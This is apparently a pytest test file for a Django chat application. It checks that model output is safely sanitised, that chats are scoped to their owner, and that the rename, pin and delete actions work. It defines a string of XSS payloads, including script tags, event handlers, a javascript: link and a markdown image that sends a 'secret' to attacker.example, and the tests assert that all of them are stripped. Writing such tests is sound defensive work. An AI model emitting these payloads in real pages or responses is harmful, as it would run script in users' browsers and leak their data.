"""The chat page: owner-scoped, safe rendering of model output, sidebar actions."""

from __future__ import annotations

import re

import pytest
from django.test import Client

from sessions_app.models import Message, Session

pytestmark = pytest.mark.django_db

XSS = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> "
    "[click](javascript:alert(3)) ![pixel](https://attacker.example/?q=secret) "
    "<svg onload=alert(4)> [ok](https://example.com)"
)


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def chat_with_answer(owner):
    session = Session.objects.create(owner=owner, title="Markdown test")
    Message.objects.create(session=session, role="user", content="Show me <b>bold</b>")
    Message.objects.create(
        session=session,
        role="assistant",
        status="complete",
        content="# Title\n\n```python\nprint('hi')\n```\n\n" + XSS,
    )
    return session


def test_chat_page_renders_history_with_markdown_and_code(owner, chat_with_answer):
    body = logged_in(owner).get(f"/chat/{chat_with_answer.pk}/").content.decode()
    assert "<h1>Title</h1>" in body
    assert '<code class="language-python">' in body
    assert "Show me &lt;b&gt;bold&lt;/b&gt;" in body  # user text is text, not HTML


def test_model_output_cannot_inject_scripts_or_load_images(owner, chat_with_answer):
    body = logged_in(owner).get(f"/chat/{chat_with_answer.pk}/").content.decode()
    thread = body[body.index('id="thread"') :]
    assert "<script>alert" not in thread
    assert "onerror" not in thread.replace("onerror=alert(2)&gt;", "")
    assert not re.search(r"<img[^>]*attacker", thread)
    assert 'href="javascript:' not in thread
    assert "<svg" not in thread
    assert 'href="https://example.com"' in thread


def test_another_users_chat_is_404_everywhere(owner, outsider, chat_with_answer):
    client = logged_in(outsider)
    sid = chat_with_answer.pk
    assert client.get(f"/chat/{sid}/").status_code == 404
    assert client.get(f"/chat/{sid}/messages/").status_code == 404
    for action in ("rename", "pin", "delete"):
        assert client.post(f"/chat/{sid}/{action}/", {"title": "pwned"}).status_code == 404
    chat_with_answer.refresh_from_db()
    assert chat_with_answer.title == "Markdown test"
    assert "Markdown test" not in client.get("/chat/").content.decode()


def test_rename_pin_and_delete_from_the_chat_page(owner, chat_with_answer):
    client = logged_in(owner)
    sid = chat_with_answer.pk
    client.post(f"/chat/{sid}/rename/", {"title": "  Renamed\u200b chat  "})
    client.post(f"/chat/{sid}/pin/", {"pinned": "1"})
    chat_with_answer.refresh_from_db()
    assert (chat_with_answer.title, chat_with_answer.title_source) == ("Renamed chat", "user")
    assert chat_with_answer.pinned
    client.post(f"/chat/{sid}/delete/")
    assert not Session.objects.filter(pk=sid).exists()
    assert not Message.objects.filter(session_id=sid).exists()


def test_renaming_to_a_taken_title_explains_why(owner, chat_with_answer):
    Session.objects.create(owner=owner, title="Taken")
    response = logged_in(owner).post(
        f"/chat/{chat_with_answer.pk}/rename/", {"title": "Taken"}, follow=True
    )
    assert "already have a conversation titled" in response.content.decode()


def test_messages_fragment_returns_only_newer_messages(owner, chat_with_answer):
    first = chat_with_answer.messages.order_by("id").first()
    body = (
        logged_in(owner)
        .get(f"/chat/{chat_with_answer.pk}/messages/?after={first.id}")
        .content.decode()
    )
    assert "Show me" not in body and "<h1>Title</h1>" in body


def test_chat_page_without_a_model_says_how_to_configure_one(owner, settings):
    settings.HERMES_MODEL = ""
    body = logged_in(owner).get("/chat/").content.decode()
    assert "No model is configured" in body
    assert "disabled" in body


def test_failed_and_interrupted_answers_say_what_happened(owner):
    session = Session.objects.create(owner=owner)
    Message.objects.create(session=session, role="user", content="q")
    Message.objects.create(
        session=session, role="assistant", status="failed", finish_reason="rate_limited"
    )
    Message.objects.create(session=session, role="user", content="q2")
    Message.objects.create(
        session=session,
        role="assistant",
        status="interrupted",
        finish_reason="stopped",
        content="partial",
    )
    body = logged_in(owner).get(f"/chat/{session.pk}/").content.decode()
    assert "rate-limited" in body and "Your message is saved" in body
    assert "Answer stopped." in body


def test_deleting_a_conversation_deletes_every_compressed_part(owner, outsider):
    from django.utils import timezone

    now = timezone.now()
    first = Session.objects.create(
        owner=owner, title="Long", started_at=now, ended_at=now, end_reason="compression"
    )
    second = Session.objects.create(owner=owner, title="Long #2", parent=first)
    Message.objects.create(session=first, role="user", content="part one")
    other = Session.objects.create(owner=outsider, title="Long")
    response = logged_in(owner).post(f"/chat/{second.pk}/delete/")
    assert response.status_code == 302
    assert not Session.objects.filter(pk__in=[first.pk, second.pk]).exists()
    assert not Message.objects.filter(content="part one").exists()
    assert Session.objects.filter(pk=other.pk).exists()
